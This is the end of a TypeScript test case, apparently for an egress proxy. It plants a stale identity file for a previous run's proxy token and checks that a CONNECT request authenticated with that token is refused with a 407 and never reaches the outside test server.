    const token = /proxy=http:\/\/([0-9a-f]{64}):x@/.exec(lastRun(d).stdout)?.[1] ?? ""
    expect(token).toHaveLength(64)
    const stale = d.file("state", "identity", `${token}.json`)
    expect(fs.existsSync(stale)).toBe(false)
    fs.writeFileSync(stale, JSON.stringify({ subject: "org/alice", run_id: lastRun(d).record.run_id, worker: "alice", task_id: null }), { mode: 0o600 })
    try {
      const answer = await new Promise<string>((resolve) => {
        const s = net.connect(d.port, "127.0.0.1")
        let data = ""
        s.on("data", (c) => (data += c.toString()))
        s.on("close", () => resolve(data))
        s.write(`CONNECT ${outside.address}:${outside.port} HTTP/1.1\r\nProxy-Authorization: Basic ${Buffer.from(`${token}:x`).toString("base64")}\r\n\r\n`)
        setTimeout(() => s.end(), 1000)
      })
      expect(answer).toContain("407")
      expect(answer).not.toContain(outside.greeting)
    } finally {
      fs.rmSync(stale, { force: true })
    }
  })
})
